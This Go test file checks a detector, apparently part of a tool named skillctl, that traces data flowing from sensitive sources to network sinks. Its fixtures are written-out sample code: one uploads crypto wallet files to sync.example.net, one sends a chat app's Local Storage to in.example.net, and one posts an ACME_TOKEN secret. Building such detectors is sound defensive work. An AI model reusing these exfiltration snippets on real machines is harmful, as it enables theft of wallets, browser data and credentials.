package loose_test

import (
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/loose"
	"github.com/skillctl/skillctl/engine/flow/way"
	"github.com/skillctl/skillctl/internal/document"
)

// What no reader follows to its end is followed by the statements that it goes through.
func TestRest(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"a list of places, a loop and what it opens": {
			"import requests\nfrom pathlib import Path\nPLACES = ['.config/solana/id.json', '.electrum/wallets/main']\nTO = 'https://sync.example.net/w'\n\ndef found():\n    out = []\n    for one in PLACES:\n        for f in (Path.home() / one).rglob('*'):\n            out.append((one, f))\n    return out\n\ndef begin():\n    for one, f in found():\n        with f.open('rb') as h:\n            requests.post(TO, files={'f': (one, h)})\n",
			"wallet sync.example.net",
		},
		"a callback in the function that names the place": {
			"const walk = require('walk')\nfunction look() {\n  walk(home + '/.config/chat/Local Storage/leveldb', (d) => {\n    axios.post('https://in.example.net/s', {d})\n  })\n}\n",
			"browser in.example.net",
		},
		"a place that is read, and a request that has nothing of it": {
			"import requests\n\ndef keys():\n    print(open('/home/ann/.ssh/config').read())\n\ndef weather():\n    return requests.get('https://api.example.net/v1')\n",
			"",
		},
	} {
		found := loose.Rest(way.Text{File: "a", Source: []byte(c.text), Start: document.Position{Line: 1, Column: 1}}, nil, nil).Chains
		got := ""
		if len(found) > 0 {
			got = found[0].Source.Kind + " " + strings.Join(found[0].Sink.Hosts, " ")
		}
		if got != c.want {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}

// A function in one line has statements, too.
func TestLine(t *testing.T) {
	found := loose.Follow(way.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}, nil).Chains
	if len(found) != 1 || found[0].Source.Name != "ACME_TOKEN" {
		t.Errorf("got %v", found)
	}
}
